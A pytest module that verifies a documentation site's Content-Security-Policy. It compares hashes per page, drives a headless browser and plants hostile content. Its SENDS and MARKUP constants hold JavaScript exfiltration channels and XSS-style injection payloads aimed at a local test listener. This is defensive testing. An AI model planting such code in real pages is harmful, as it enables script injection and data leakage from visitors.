"""The policy of every page: it allows what the build put there, and stops whatever else is in a page."""

import base64
import hashlib
import json
import re
import shutil
import time
from collections.abc import Iterable, Iterator
from functools import partial
from pathlib import Path

import pytest
from browser import wait_until
from conftest import ONE_OF_EACH_KIND, PAGES, ROOT, build, copy_project, finish
from outside import Outside, listen
from playwright.sync_api import Browser
from selectolax.lexbor import LexborHTMLParser
from server import serve
from visitor import Visitor

from finish import policy

pytestmark = pytest.mark.xdist_group("policy")  # one site and one browser for all of them

HASH = re.compile(r" 'sha256-[^']+'")
ALLOWED = {
    "default-src": "'none'",
    "script-src": "'self'",
    "style-src": "'self'",
    "font-src": "'self'",
    "img-src": "'self' data:",
    "connect-src": "'self'",
    "worker-src": "'self'",
    "base-uri": "'none'",
    "form-action": "'none'",
}


def ready(folder: Path, copy: Path) -> Path:
    """A copy of a published site that a test may change."""
    return shutil.copytree(folder, copy, ignore=shutil.ignore_patterns("*.br", "*.gz", "*.zip", "downloads"))


def change(file: Path, old: str, new: str) -> None:
    """Change a text that stands in a file."""
    text = file.read_text(encoding="utf-8")
    assert old in text, file
    file.write_text(text.replace(old, new, 1), encoding="utf-8")


# What stands in the pages


def hashes(html: str, tag: str) -> list[str]:
    """The hashes of the scripts or styles that stand in a page."""
    texts = [node.text() for node in LexborHTMLParser(html).css(f"{tag}:not([src])")]
    return [f"'sha256-{base64.b64encode(hashlib.sha256(text.encode()).digest()).decode()}'" for text in texts]


@pytest.mark.parametrize("edition", ["site", "disk"])
def test_each_page_has_one_policy_that_fits_it(edition: str, request: pytest.FixtureRequest) -> None:
    pages = sorted(request.getfixturevalue(edition).rglob("*.html"))
    assert {page.name for page in pages} >= set(PAGES)
    for page in pages:
        html = page.read_text(encoding="utf-8")
        assert html.count("Content-Security-Policy") == 1, page
        found = re.search(
            r'<head><meta charset=utf-8><meta http-equiv="Content-Security-Policy" content="([^"]*)">', html
        )
        assert found, f"{page}: the policy does not stand right behind the charset"
        said = dict(part.split(" ", 1) for part in found[1].split("; "))
        for name, tag in (("script-src", "script"), ("style-src", "style")):
            assert HASH.findall(said[name]) == [f" {hash}" for hash in hashes(html, tag)], page
            assert len(HASH.findall(said[name])) == 1, page
        assert {name: HASH.sub("", value) for name, value in said.items()} == ALLOWED, page


def test_no_page_holds_what_the_policy_stops(site: Path) -> None:
    for page in sorted(site.rglob("*.html")):
        nodes = LexborHTMLParser(page.read_text(encoding="utf-8")).css("*")
        held = [(name, value or "") for node in nodes for name, value in node.attributes.items()]
        assert [name for name, _ in held if name == "style" or name.startswith("on")] == [], page
        assert [value for _, value in held if value.strip().lower().startswith("javascript:")] == [], page


def test_the_header_allows_what_any_page_allows(site: Path, tmp_path: Path) -> None:
    old = ready(site, tmp_path / "old")
    change(old / "trust.html", policy.header([site]).split("'sha256-")[1].split("'")[0], "AAAA")
    header = policy.header([site, old])
    allowed = {
        hash for page in site.rglob("*.html") for hash in HASH.findall(page.read_text(encoding="utf-8"))
    }
    assert set(HASH.findall(header)) == allowed | {" 'sha256-AAAA'"}
    said = dict(part.split(" ", 1) for part in HASH.sub("", header).split("; "))
    assert said == {**ALLOWED, "frame-ancestors": "'none'"}


# What readers do


@pytest.fixture(scope="module")
def below(tmp_path_factory: pytest.TempPathFactory) -> Iterator[str]:
    """The address of the guide below a folder of a host, with one page more that has footnotes."""
    project = copy_project(tmp_path_factory.mktemp("below") / "project")
    shutil.copy(ROOT / "tests" / "every-style.md", project / "docs")
    build(project, project / "site", SITE_URL="https://example.org/guide/")  # the checks mind that page
    result = finish(project / "site")
    assert result.returncode == 0, result.stderr
    with serve(project / "site", "/guide/") as address:
        yield address


def visit(chromium: Browser, root: str, paths: Iterable[str]) -> None:
    """Do on each page what a reader can do, follow a search result in the end, and break nothing."""
    with chromium.new_context() as context:
        visitor = Visitor(context)
        for path in paths:
            visitor.use(root + path)
            visitor.leave()
        visitor.use(root + "index.html")
        visitor.follow()
        assert (visitor.violations, visitor.faults) == ({}, [])


def test_nothing_a_reader_does_is_against_the_policy(chromium: Browser, address: str) -> None:
    """tests/test_privacy.py goes to all the other pages."""
    visit(chromium, address, [*ONE_OF_EACH_KIND, "404.html"])


def test_nor_below_a_folder(chromium: Browser, below: str) -> None:
    visit(chromium, below, [*ONE_OF_EACH_KIND, "every-style.html", "404.html"])


def test_nor_on_a_disk(chromium: Browser, disk: Path) -> None:
    visit(chromium, f"{disk.as_uri()}/", ONE_OF_EACH_KIND)


def test_nor_on_paper(chromium: Browser, address: str) -> None:
    with chromium.new_context() as context:
        visitor = Visitor(context)
        visitor.page.goto(address + "print.html")
        assert visitor.page.pdf()
        assert (visitor.violations, visitor.faults) == ({}, [])


STOPPED = {"script-src-elem inline", "style-src-elem inline"}


def test_without_its_hashes_every_page_breaks_the_policy(
    chromium: Browser, site: Path, tmp_path: Path
) -> None:
    """A visitor sees a violation: else the tests above would hold nothing."""
    broken = ready(site, tmp_path / "site")
    for page in broken.rglob("*.html"):
        page.write_text(HASH.sub("", page.read_text(encoding="utf-8")), encoding="utf-8")
    with serve(broken) as address, chromium.new_context() as context:
        visitor = Visitor(context)
        for path in [*PAGES, "404.html"]:
            visitor.page.goto(address + path)
            wait_until(visitor.page, partial(visitor.tells, path, STOPPED), f"{path} breaks the policy")
        assert set(visitor.violations) == {*PAGES, "404.html"}


# What somebody plants

#: Whatever a script can do to send something to somebody else, by the address that it asks for. No policy of
#: today's browsers stops three more: going there with the reader, a connection in advance, and WebRTC.
SENDS = """
    const make = (name, attributes) =>
        document.body.append(Object.assign(document.createElement(name), attributes));
    make("form", { id: "sender", action: OUTSIDE + "form", target: "_blank" });
    const ways = [
        () => fetch(OUTSIDE + "fetch", { mode: "no-cors" }).catch(() => 0),
        () => { const asked = new XMLHttpRequest(); asked.open("GET", OUTSIDE + "asked"); asked.send(); },
        () => navigator.sendBeacon(OUTSIDE + "beacon"),
        () => new WebSocket(OUTSIDE.replace("http", "ws") + "socket"),
        () => new EventSource(OUTSIDE + "events"),
        () => { new Image().src = OUTSIDE + "image"; },
        () => { document.body.style.background = `url(${OUTSIDE}background)`; },
        () => new FontFace("Face", `url(${OUTSIDE}font)`).load().catch(() => 0),
        () => document.getElementById("sender").submit(),
        () => make("a", { href: "#sent", ping: OUTSIDE + "ping", id: "pinger" }),
        () => document.getElementById("pinger").click(),
        () => make("script", { src: OUTSIDE + "script" }),
        () => import(OUTSIDE + "module").catch(() => 0),
        () => make("iframe", { src: OUTSIDE + "iframe" }),
        () => make("object", { data: OUTSIDE + "object" }),
        () => make("video", { src: OUTSIDE + "video" }),
        () => make("link", { rel: "stylesheet", href: OUTSIDE + "styles" }),
        () => make("link", { rel: "prefetch", href: OUTSIDE + "prefetch" }),
        () => make("link", { rel: "preload", as: "image", href: OUTSIDE + "preload" }),
    ];
    for (const way of ways) try { way(); } catch (stopped) { /* the next one */ }
"""
SENT = set(re.findall(r'OUTSIDE \+ "(\w+)"', SENDS)) | {"socket", "background", "font"}

#: What somebody might bring into a page: scripts, and what asks for something from elsewhere.
MARKUP = """
    <script>(top.ran ||= []).push("script")</script>
    <img src="OUTSIDEimage" onerror="(top.ran ||= []).push('handler')">
    <a id="planted" href="javascript:void (top.ran ||= []).push('address')">Read on</a>
    <iframe srcdoc="<script>(top.ran ||= []).push('frame')</script>"></iframe>
    <style>@import "OUTSIDEimport"; h1 { background: url("OUTSIDEbackground") }</style>
    <link rel="stylesheet" href="OUTSIDEstyles">
    <script src="OUTSIDEfile"></script>
    <object data="OUTSIDEobject"></object>
    <form action="OUTSIDEform" target="_blank"><button id="send">Send</button></form>
"""
RUN = set(re.findall(r"push\(.(\w+)", MARKUP))
ASKED = set(re.findall(r"OUTSIDE(\w+)", MARKUP))

META = re.compile(r'<meta http-equiv="Content-Security-Policy"[^>]*>')


@pytest.fixture
def planted(site: Path, tmp_path: Path) -> Path:
    """A copy of the guide for somebody to plant things in."""
    return ready(site, tmp_path / "planted")


def append(folder: Path, pattern: str, text: str) -> None:
    """Write something behind what stands in a file."""
    [file] = folder.glob(pattern)
    file.write_text(file.read_text(encoding="utf-8") + text, encoding="utf-8")


def drop_policy(folder: Path) -> None:
    for page in folder.rglob("*.html"):
        page.write_text(META.sub("", page.read_text(encoding="utf-8")), encoding="utf-8")


def heard(outside: Outside, expected: set[str]) -> set[str]:
    """What the other server was asked for, at once when that is what is expected; a second if nothing is."""
    late = time.monotonic() + (30 if expected else 1)
    while time.monotonic() < late and (not expected or outside.paths < expected):
        time.sleep(0.02)
    return outside.paths


@pytest.mark.parametrize("has_policy", [True, False])
def test_a_script_that_runs_sends_nothing_out(chromium: Browser, planted: Path, has_policy: bool) -> None:
    with listen() as outside, serve(planted) as address, chromium.new_context() as context:
        code = f"(() => {{ const OUTSIDE = '{outside.address}'; {SENDS} }})(); window.ran = true;"
        append(planted, "assets/guide.*.js", code)
        if not has_policy:
            drop_policy(planted)
        page = context.new_page()
        page.goto(address + "trust.html")
        assert page.evaluate("window.ran")
        expected = set() if has_policy else SENT
        assert heard(outside, expected) == expected


@pytest.mark.parametrize("has_policy", [True, False])
def test_what_is_planted_in_a_page_does_nothing(chromium: Browser, planted: Path, has_policy: bool) -> None:
    with listen() as outside, serve(planted) as address, chromium.new_context() as context:
        markup = MARKUP.replace("OUTSIDE", outside.address)
        change(planted / "trust.html", "</h1>", f"</h1>{markup}")
        if not has_policy:
            drop_policy(planted)
        page = context.new_page()
        page.goto(address + "trust.html")
        page.click("#planted")
        page.click("#send")
        expected = set() if has_policy else ASKED
        assert heard(outside, expected) == expected
        if not has_policy:
            page.wait_for_function("number => window.ran?.length >= number", arg=len(RUN))
        assert set(page.evaluate("window.ran || []")) == (set() if has_policy else RUN)


def test_what_is_planted_in_the_search_index_is_only_text(chromium: Browser, planted: Path) -> None:
    """Without the policy, so that nothing but search itself keeps it from running."""
    drop_policy(planted)
    with listen() as outside, serve(planted) as address, chromium.new_context() as context:
        markup = f"zqxwvkj <img src='{outside.address}hit'><script>fetch('{outside.address}run')</script>"
        entry = [markup, "trust.html", markup, markup, "", f"{markup}."]
        append(planted, "assets/search-index.*.js", f"\nwindow.guideIndex.push({json.dumps(entry)});")
        page = context.new_page()
        page.goto(address + "trust.html")
        page.click("button.search")
        page.fill("dialog input", "zqxwvkj")
        page.locator("dialog mark").first.wait_for()
        shown = page.locator("dialog li").first
        assert all(
            shown.locator(part).inner_text().count("<script>") for part in (".guide-search__title", "p")
        )
        assert page.locator("dialog :is(img, script)").count() == 0
        assert heard(outside, set()) == set()
